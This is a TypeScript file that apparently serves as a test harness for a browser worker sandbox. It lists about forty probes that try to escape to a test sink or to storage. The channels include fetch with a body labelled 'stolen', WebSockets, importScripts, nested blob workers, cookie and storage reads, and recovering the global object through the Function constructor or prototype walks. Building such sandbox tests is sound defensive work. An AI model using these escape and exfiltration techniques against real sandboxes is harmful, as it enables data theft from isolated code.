/** Ways out of a sandbox: each tries to reach the sink, a store, another context, or the page. The name of each is sent with it. */
export interface Probe {
  readonly name: string;
  /** Statements of an async function; `U` is the sink's address with a slash at its end, `W` its `ws:` one. What it returns is told. */
  readonly code: string;
  /** Whether it reaches the sink, a store or the page from a plain worker: the control that shows that the probe works. */
  readonly hits: boolean;
}

const probe = (name: string, code: string, hits = false): Probe => ({ name, code, hits });

export const PROBES: readonly Probe[] = [
  probe('fetch', "await fetch(U + 'fetch'); return 'ESCAPED'", true),
  probe('fetch without CORS', "await fetch(U + 'no-cors', { mode: 'no-cors' }); return 'ESCAPED'", true),
  probe(
    'fetch with a body',
    "await fetch(U + 'post', { method: 'POST', mode: 'no-cors', body: 'stolen' }); return 'ESCAPED'",
    true,
  ),
  probe(
    'fetch kept alive',
    "await fetch(U + 'keepalive', { keepalive: true, mode: 'no-cors' }); return 'ESCAPED'",
    true,
  ),
  probe('fetchLater', "fetchLater(U + 'later', { activateAfter: 0 }); return 'sent'"),
  probe(
    'XMLHttpRequest',
    "const x = new XMLHttpRequest(); x.open('GET', U + 'xhr', false); x.send(); return 'ESCAPED'",
    true,
  ),
  probe(
    'native WebSocket',
    "const w = new WebSocket(W); return await new Promise((r) => { w.onopen = () => r('ESCAPED'); w.onerror = () => r('refused'); })",
    true,
  ),
  probe('WebSocketStream', "await new WebSocketStream(W).opened; return 'ESCAPED'"),
  probe(
    'EventSource',
    "const s = new EventSource(U + 'events'); return await new Promise((r) => { s.onopen = () => r('ESCAPED'); s.onerror = () => r('refused'); })",
    true,
  ),
  probe('importScripts', "importScripts(U + 'script.js'); return 'ESCAPED'", true),
  probe('import()', "await import(U + 'module.js'); return 'ESCAPED'", true),
  probe('import() from a string', "await (0, eval)('import(\"' + U + 'module2.js\")'); return 'ESCAPED'", true),
  probe(
    'import() from data:',
    "const m = await import('data:text/javascript,export default fetch(\"' + U + 'data\")'); await m.default; return 'ESCAPED'",
    true,
  ),
  probe('a worker from an address', "new Worker(U + 'worker.js'); return 'made'"),
  probe(
    'a nested worker from a blob',
    "const w = new Worker(URL.createObjectURL(new Blob(['fetch(\"' + U + 'nested\", {mode:\"no-cors\"}).then(() => postMessage(1), () => postMessage(0))']))); return await new Promise((r) => { w.onmessage = (e) => r(e.data ? 'ESCAPED' : 'refused'); w.onerror = () => r('refused'); })",
    true,
  ),
  probe('a shared worker', "new SharedWorker(U + 'shared.js'); return 'made'"),
  probe('a font', "await new FontFace('x', 'url(' + U + 'font)').load(); return 'ESCAPED'"),
  probe('WebTransport', "await new WebTransport(U.replace('http:', 'https:') + 'transport').ready; return 'ESCAPED'"),
  probe('a beacon', "return navigator.sendBeacon(U + 'beacon', 'x') ? 'ESCAPED' : 'refused'"),
  probe(
    'WebRTC',
    "const c = new RTCPeerConnection({ iceServers: [{ urls: 'stun:' + U.slice(7, -1) }] }); c.createDataChannel('x'); await c.setLocalDescription(); return 'made'",
  ),
  probe('a picture', "const i = new Image(); i.src = U + 'image'; return 'made'"),
  probe('a stylesheet', "const s = new CSSStyleSheet(); s.replaceSync('@import url(' + U + 'css)'); return 'made'"),
  probe('a report', "reportError(new Error(U + 'report')); return 'told'"),
  probe('navigating', "self.location.href = U + 'navigation'; location = U + 'navigation2'; return 'assigned'"),
  probe('opening a window', "open(U + 'window'); return 'opened'"),
  probe(
    'IndexedDB',
    "return await new Promise((r) => { const q = indexedDB.open('probe'); q.onsuccess = () => r('ESCAPED'); q.onerror = () => r('refused'); })",
    true,
  ),
  probe('caches', "await caches.open('probe'); return 'ESCAPED'", true),
  probe('the private file system', "await navigator.storage.getDirectory(); return 'ESCAPED'", true),
  probe('locks', "return await navigator.locks.request('probe', () => 'ESCAPED')", true),
  probe('cookies', 'return document.cookie'),
  probe('the cookie store', "await cookieStore.set('probe', 'x'); return 'ESCAPED'"),
  probe('local storage', "return localStorage.getItem('secret')"),
  probe('the page’s document', 'return parent.document.title'),
  probe('the top window', 'return top.location.href'),
  probe('BroadcastChannel', "new BroadcastChannel('lab-probe').postMessage('stolen'); return 'sent'", true),
  probe('postMessage', "postMessage({ op: 'done', forged: true }); return 'sent'"),
  probe(
    'the global of a new function',
    "const g = Function('return this')(); await g.fetch(U + 'function', { mode: 'no-cors' }); return 'ESCAPED'",
    true,
  ),
  probe(
    'the global by a constructor',
    "const g = [].constructor.constructor('return globalThis')(); await g.fetch(U + 'constructor', { mode: 'no-cors' }); return 'ESCAPED'",
    true,
  ),
  probe(
    'what the prototypes still have',
    "for (let p = globalThis; p; p = Object.getPrototypeOf(p)) for (const k of ['fetch', 'importScripts']) if (Object.hasOwn(p, k) && p[k]) await p[k].call(globalThis, U + 'prototype'); return 'looked'",
    true,
  ),
];

/** A program that tries them all, one after the other, and prints `name: what came of it` for each. */
export const probeProgram = (sink: string, print: string): string => `
const U = ${JSON.stringify(`${sink}/`)};
const W = ${JSON.stringify(`${sink.replace('http:', 'ws:')}/socket`)};
const probes = { ${PROBES.map(({ name, code }) => `${JSON.stringify(name)}: async () => { ${code} }`).join(',\n')} };
const later = globalThis.setTimeout;
(async () => {
  for (const [name, attempt] of Object.entries(probes)) {
    let told;
    try { told = await Promise.race([attempt(), new Promise((r) => later(() => r('no answer'), 400))]); } catch (e) { told = String(e && e.name) + ': ' + String(e && e.message).slice(0, 60); }
    ${print}(name + ': ' + told);
  }
  ${print}('all tried');
})();`;
